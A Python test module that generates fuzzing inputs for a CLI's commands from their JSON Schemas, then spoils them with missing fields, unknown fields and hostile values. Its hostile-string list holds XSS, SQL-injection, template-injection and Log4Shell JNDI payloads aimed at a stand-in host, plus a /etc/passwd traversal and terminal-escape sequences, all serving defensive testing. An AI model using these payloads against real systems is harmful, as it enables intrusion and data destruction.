"""Command inputs generated from each command's JSON Schema (what `kringloop commands
--json` prints), then spoiled: a field given a hostile value, a required field dropped, an
unknown field added; or aimed at the record, so that some are decided. Hand-written because
hypothesis-jsonschema 0.23 fails on the installed hypothesis ('many' object has no attribute
'more'); the schemas use few keywords."""

from __future__ import annotations

import json
from datetime import date
from typing import Any

from hypothesis import strategies as st

from domain.commands.base import Command

Json = Any
HOSTILE_TEXT = [
    "<script>alert(1)</script>",
    "'); DROP TABLE stored_events;--",
    '" OR 1=1 --',
    "[/] [bold red]x[/] [link=https://evil.example]click[/link]",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "nul\x00byte",
    "escape \x1b[2J\x1b]0;title\x07",
    "right-to-left \u202e override",
    "line\nbreak",
    "\ud800 lone surrogate",
    "  ",
    "",
    "_type_",
    "x" * 5000,
    "é 漢字 🙂",
]
STREAMS = ["construction-timber", "mattresses", "biomass", "diapers"]
MEMBERS = ["Gemeente Amsterdam", "Gemeente Haarlem", "Gemeente Almere", "Demo Bouwgroep BV"]
IDS = {  # the record's names: first-steps, and the procurement of tests/exports
    "programme_id": ["mra-circular"],
    "initiative_id": [
        "timber-reuse",
        "roadside-grass-insulation",
        "diaper-recycling",
        "mattress-recycling",
        "textile-fibre-to-fibre",
    ],
    "commitment_id": ["gooise-meren", "landsmeer", "ouder-amstel"],
    "community_id": ["cop-construction"],
    "stream": STREAMS,
    "streams": STREAMS,
    "broker": ["broker-anna", "broker-bas"],
    "precondition": ["demolition-volume", "municipal-offtake", "volume", "permit"],
    "attendees": MEMBERS,
    "participants": MEMBERS,
}
BROKER_OF = {  # who holds the mandate for each initiative's stream
    "timber-reuse": "broker-bas",
    "textile-fibre-to-fibre": "broker-bas",
    "roadside-grass-insulation": "broker-anna",
    "diaper-recycling": "broker-anna",
    "mattress-recycling": "broker-anna",
}
# Left out of an aimed input: the door's user decides, today, under a new command id (a
# random actor, recorder, effective date or reused id is refused more often than not).
NOT_AIMED = frozenset({"actor", "recorded_by", "effective", "command_id"})

SPOILS = ["aimed", "aimed", "aimed", "none", "hostile", "hostile", "drop", "extra"]

hostile_text = st.sampled_from(HOSTILE_TEXT)
hostile_value: st.SearchStrategy[Json] = st.one_of(
    hostile_text,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),  # NaN and infinities too
    st.lists(hostile_text, max_size=3),
    st.dictionaries(hostile_text, hostile_text | st.floats(), max_size=2),
)


def _resolve(schema: dict[str, Any], root: dict[str, Any]) -> dict[str, Any]:
    if "$ref" in schema:
        return root["$defs"][schema["$ref"].rsplit("/", 1)[-1]]
    return schema


def from_schema(schema: dict[str, Any], root: dict[str, Any]) -> st.SearchStrategy[Json]:
    """Values the schema allows (the model may still refuse some: rules across fields)."""
    schema = _resolve(schema, root)
    if "anyOf" in schema:
        return st.one_of([from_schema(s, root) for s in schema["anyOf"]])
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    kind = schema.get("type")
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        return st.integers(schema.get("minimum"), schema.get("maximum"))
    if kind == "number":
        return st.floats(
            schema.get("minimum", -1e12),
            schema.get("maximum", 1e12),
            allow_nan=False,
            allow_infinity=False,
        )
    if kind == "string":
        return _string(schema)
    if kind == "array":
        return st.lists(
            from_schema(schema.get("items", {}), root),
            min_size=schema.get("minItems", 0),
            max_size=min(schema.get("maxItems", 4), max(4, schema.get("minItems", 0))),
        )
    if kind == "object":
        return _object(schema, root)
    return hostile_value


def _string(schema: dict[str, Any]) -> st.SearchStrategy[str]:
    if schema.get("format") == "date":
        return st.dates(date(2014, 1, 1), date(2030, 12, 31)).map(date.isoformat)
    if "pattern" in schema:
        return st.from_regex(schema["pattern"], fullmatch=True)
    low, high = schema.get("minLength", 0), min(schema.get("maxLength", 40), 40)
    printable = st.text(st.characters(exclude_categories=("Cc", "Cs")), min_size=low, max_size=high)
    return printable.filter(lambda s: len(s.strip()) >= low)


def _object(
    schema: dict[str, Any], root: dict[str, Any], aimed: bool = False
) -> st.SearchStrategy[Json]:
    properties = schema.get("properties")
    if properties is None:  # a mapping, e.g. figures or shares by party
        keys = _string(schema.get("propertyNames", {"type": "string", "minLength": 1}))
        values = from_schema(schema.get("additionalProperties", {}), root)
        return st.dictionaries(keys, values, max_size=min(schema.get("maxProperties", 3), 3))
    required = set(schema.get("required", []))
    return st.fixed_dictionaries(
        {name: _field(name, p, root, aimed) for name, p in properties.items() if name in required},
        optional={
            name: _field(name, p, root, aimed)
            for name, p in properties.items()
            if name not in required
        },
    )


def _field(
    name: str, schema: dict[str, Any], root: dict[str, Any], aimed: bool
) -> st.SearchStrategy[Json]:
    """Ids come mostly (when aimed: only) from the record, so commands reach the aggregates."""
    if name not in IDS:
        return from_schema(schema, root)
    known: st.SearchStrategy[Json] = st.sampled_from(IDS[name])
    listed = _cli_schema(schema, root)
    if listed.get("type") == "array":
        low = listed.get("minItems", 0)
        known = st.lists(known, min_size=low, max_size=max(low, 3), unique=True)
    return known if aimed else known | from_schema(schema, root)


@st.composite
def command_input(
    draw: st.DrawFn, cls: type[Command], leave_out: frozenset[str]
) -> dict[str, Json]:
    """Fields for one command: aimed at the record (its ids, a new id for a command that
    creates, no actor: the caller picks one with `deciders`), valid by its schema, or
    spoiled in one way."""
    spoil = draw(st.sampled_from(SPOILS))
    aimed = spoil == "aimed"
    root = cls.model_json_schema()
    left_out = leave_out | NOT_AIMED if aimed else leave_out
    properties = {k: v for k, v in root["properties"].items() if k not in left_out}
    schema = {**root, "properties": properties}
    schema["required"] = [r for r in root.get("required", []) if r not in left_out]
    fields: dict[str, Json] = draw(_object(schema, root, aimed))
    own_id = f"{cls.group}_id"
    if aimed and cls.creates and own_id in properties:  # an id the record already holds exists
        fields[own_id] = draw(from_schema(properties[own_id], root))
    if spoil == "hostile":
        fields[draw(st.sampled_from(sorted(properties)))] = draw(hostile_value)
    elif spoil == "drop" and fields:
        del fields[draw(st.sampled_from(sorted(fields)))]
    elif spoil == "extra":
        fields[draw(st.sampled_from(["surprise", "actor", "command", "__proto__"]))] = draw(
            hostile_value
        )
    return fields


def deciders(fields: dict[str, Json], users: list[str]) -> list[str]:
    """The users who may decide on the fields' initiative: its broker, if one of them."""
    initiative = fields.get("initiative_id")
    broker = BROKER_OF.get(initiative) if isinstance(initiative, str) else None
    return [broker] if broker in users else users


def as_cli_arguments(cls: type[Command], fields: dict[str, Json]) -> list[str]:
    """`kringloop GROUP COMMAND ...` for the fields, as a person would type them: lists repeat
    the option, structured fields are JSON, the id comes last after `--`."""
    root = cls.model_json_schema()
    id_field = f"{cls.group}_id"
    arguments = [cls.cli_group, cls.command]
    for name, value in fields.items():
        if name == id_field:
            continue
        option = "--" + name.replace("_", "-")
        schema = _cli_schema(root["properties"].get(name, {}), root)
        if schema.get("type") == "boolean":
            arguments.append(option if value else f"--not-{name.replace('_', '-')}")
        elif _structured(schema, root):
            arguments.append(f"{option}={json.dumps(value)}")
        elif schema.get("type") == "array" and isinstance(value, list):
            arguments += [f"{option}={_plain(item)}" for item in value]
        elif value is not None:
            arguments.append(f"{option}={_plain(value)}")
    if id_field in fields:
        arguments += ["--", _plain(fields[id_field])]
    return arguments


def _cli_schema(schema: dict[str, Any], root: dict[str, Any]) -> dict[str, Any]:
    schema = _resolve(schema, root)
    choices = [s for s in schema.get("anyOf", []) if s.get("type") != "null"]
    return _resolve(choices[0], root) if len(choices) == 1 else schema


def _structured(schema: dict[str, Any], root: dict[str, Any]) -> bool:
    if schema.get("type") == "object":
        return True
    items = _resolve(schema.get("items", {}), root)
    return schema.get("type") == "array" and items.get("type") == "object"


def _plain(value: Json) -> str:
    return value if isinstance(value, str) else json.dumps(value)
